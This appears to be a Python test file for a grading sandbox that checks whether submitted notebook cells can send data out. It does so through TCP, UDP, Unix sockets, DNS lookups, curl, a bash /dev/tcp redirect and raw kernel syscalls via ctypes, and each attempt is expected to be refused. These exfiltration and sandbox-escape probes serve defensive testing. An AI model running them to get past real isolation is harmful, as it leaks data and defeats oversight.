"""Calls to anywhere: over every kind of socket, by other programs, and past the library."""

from grader.author import attack

REFUSED = "not permitted|Errno|URLError|unreachable|refused"


@attack("a connection to a server on this machine", told=REFUSED)
def tcp(hand_in):
    hand_in.cell('import socket\nsocket.create_connection(("127.0.0.1", $port), 2).send(b"secrets")')


@attack("a packet to a server on this machine", told=REFUSED)
def udp(hand_in):
    hand_in.cell(
        'import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secrets", ("127.0.0.1", $port))'
    )


@attack("a Unix socket without a path, which no mount could hide", told=REFUSED)
def abstract_socket(hand_in):
    hand_in.cell('import socket\nsocket.socket(socket.AF_UNIX).connect("\\0$mark")')


@attack("a Unix socket on the disk", told=REFUSED)
def socket_file(hand_in):
    hand_in.cell('import socket\nsocket.socket(socket.AF_UNIX).connect("$listener")')


@attack("one end of a pair, connected to somebody else", tried="tried -1|not permitted|Errno", told="Errno|not written")
def reconnected_pair(hand_in):
    hand_in.cell("""
        import socket
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        ours.connect("$listener")
        ours.send(b"secrets")
    """)


@attack("a name looked up, which carries the secret in it", told="Errno|Name|resolution|not permitted")
def name_lookup(hand_in):
    hand_in.cell('import socket\nprint(socket.getaddrinfo("secret.example.org", 80))')


@attack("a page fetched by the library, and by curl, and by bash", tried="status", told=REFUSED)
def pages(hand_in):
    hand_in.cell("!curl -m 2 http://127.0.0.1:$port/ ; echo status $$?")
    hand_in.cell("!bash -c 'echo secrets > /dev/tcp/127.0.0.1/$port' ; echo status $$?")
    hand_in.cell('import urllib.request\nurllib.request.urlopen("http://127.0.0.1:$port/secrets", timeout=2)')


@attack("a socket asked of the kernel directly", tried="socket -1", told="not written")
def raw_call(hand_in):
    hand_in.cell("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for family in (1, 2, 10, 16, 17, 40):
            print("socket", libc.syscall(41, family, 1, 0), ctypes.get_errno())
        print("rings", libc.syscall(425, 8, ctypes.create_string_buffer(200)))
    """)
